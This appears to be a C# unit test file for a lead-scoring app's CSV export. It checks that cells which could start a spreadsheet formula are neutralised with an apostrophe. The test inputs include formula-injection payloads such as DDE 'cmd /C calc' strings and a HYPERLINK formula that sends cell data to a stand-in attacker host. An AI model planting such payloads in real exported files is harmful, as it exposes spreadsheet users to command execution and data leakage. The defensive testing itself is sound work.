using System.Text;

using CsvHelper;

using LeadScoring.CrmConnector.Crm;
using LeadScoring.Functions.Http;

namespace LeadScoring.Tests.Http;

/// <summary>The rule of the app's files and that of the sample connector are one.</summary>
public sealed class SpreadsheetCellTests
{
    private static readonly string[] Skipped = ["", " ", "  ", "\u00A0", "\u3000", "\u200B", "\u200D", "\u2060", "\uFEFF", " \uFEFF\u00A0"];
    private static readonly string[] Separators = [";", ",", "\t", "\r", "\n", "\r\n", "\"", ";\"", ";;", "\v", "\f", "\u0085", "\u2028", "\u2029"];
    private static readonly string[] Formulas = ["=1+1", "+1", "-1+2", "-A1", "-", "@SUM(1)", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)"];

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+49 30 1234567")]
    [InlineData("+41 44 668 18 00")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("=")]
    [InlineData(" =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u3000=1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\tAcme")]
    [InlineData("\rAcme")]
    [InlineData("\nAcme")]
    [InlineData(" \nAcme")]
    [InlineData("\uFF1D1+1")]
    [InlineData(" \uFF1D1+1")]
    [InlineData("-1 000")]
    [InlineData("-")]
    public void Text_that_could_be_a_formula_gets_an_apostrophe(string text) => Expect("'" + text, text);

    [Theory]
    [InlineData("Acme;=1+1", "Acme;'=1+1")]
    [InlineData("Acme,=1+1", "Acme,'=1+1")]
    [InlineData("Acme\t=1+1", "Acme\t'=1+1")]
    [InlineData("Acme\n=1+1", "Acme\n'=1+1")]
    [InlineData("Acme\r\n=1+1", "Acme\r\n'=1+1")]
    [InlineData("Acme\"=1+1", "Acme\"'=1+1")]
    [InlineData("Acme;\"=1+1\"", "Acme;\"'=1+1\"")]
    [InlineData("Acme; \uFEFF=1", "Acme;' \uFEFF=1")]
    [InlineData("=1;=2;=3", "'=1;'=2;'=3")]
    [InlineData("\t=1+1", "'\t'=1+1")]
    [InlineData("\r\n=1+1", "'\r\n'=1+1")]
    [InlineData(" \t =1+1", "' \t' =1+1")]
    [InlineData("Acme, +41 44 668", "Acme,' +41 44 668")]
    [InlineData("Acme;-9;-9.5;-1+1", "Acme;-9;-9.5;'-1+1")]
    [InlineData("\0=1+1", "'=1+1")]
    [InlineData("\0Acme", "'Acme")]
    [InlineData("=\0" + "1", "'=1")]
    [InlineData(" \0=1", "' =1")]
    [InlineData("Acme;\0=1", "Acme;'=1")]
    [InlineData("Ac\0me", "Acme")]
    [InlineData("\0", "'")]
    public void Each_part_that_could_begin_a_cell_gets_one(string text, string cell) => Expect(cell, text);

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("Acme")]
    [InlineData(" Acme")]
    [InlineData("'=1+1")]
    [InlineData("1+1=2")]
    [InlineData("a=b")]
    [InlineData("-9")]
    [InlineData("-9.5")]
    [InlineData("44 668; 18")]
    [InlineData("ann@acme.example")]
    [InlineData("2026-03-01T12:00:00Z")]
    [InlineData("Senior title (+8); Pricing page (+8)")]
    [InlineData("\u00C9cole, \"Nord\"\nParis")]
    [InlineData("\uD83D\uDE80 Rockets")]
    public void Other_text_stays_as_it_is(string text) => Expect(text, text);

    [Fact]
    public void No_program_finds_a_formula_whatever_separates_its_cells()
    {
        foreach (var skipped in Skipped)
        {
            foreach (var before in Separators.Append(""))
            {
                foreach (var formula in Formulas)
                {
                    foreach (var text in new[] { before + skipped + formula, "Acme" + before + skipped + formula, skipped + before + formula + before + formula })
                    {
                        if (text.StartsWith("Acme" + skipped + formula, StringComparison.Ordinal))
                            continue;
                        Assert.All(Cells(SpreadsheetCell.Of(text)), cell => Assert.False(IsFormula(cell), $"{Convert.ToHexString(Encoding.BigEndianUnicode.GetBytes(text))}: {cell}"));
                        Assert.Equal(SpreadsheetCell.Of(text), SafeCell.Of(text));
                    }
                }
            }
        }
    }

    private static void Expect(string cell, string text) => Assert.Equal((cell, cell), (SpreadsheetCell.Of(text), SafeCell.Of(text)));

    // The cells of a file as it is written, read with each separator that a spreadsheet's language may have.
    private static IEnumerable<string> Cells(string cell)
    {
        using var file = new MemoryStream();
        using (var csv = CsvWriter.Create(file, new CsvWriterOptions { NewLine = "\r\n" }, leaveOpen: true))
            csv.WriteRecord(["id", cell, "end"]);
        var text = "a,b,c\r\n" + Encoding.UTF8.GetString(file.ToArray());
        foreach (var separator in new[] { ';', ',', '\t' })
        {
            using var reader = CsvReader.Create(new StringReader(text), new CsvReaderOptions { Separator = separator });
            while (reader.Read())
            {
                for (var place = 0; place < reader.FieldCount; place++)
                    yield return reader.GetString(place);
            }

            // As a program reads it that knows nothing of quotes.
            foreach (var line in text.Split('\r', '\n'))
            {
                foreach (var part in line.Split(separator))
                    yield return part.Replace("\"", "", StringComparison.Ordinal);
            }
        }
    }

    private static bool IsFormula(string cell)
    {
        var text = cell.AsSpan();
        while (text.Length > 0 && (char.IsWhiteSpace(text[0]) || char.GetUnicodeCategory(text[0]) == System.Globalization.UnicodeCategory.Format))
            text = text[1..];
        return text.Length > 0 && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".Contains(text[0], StringComparison.Ordinal);
    }
}
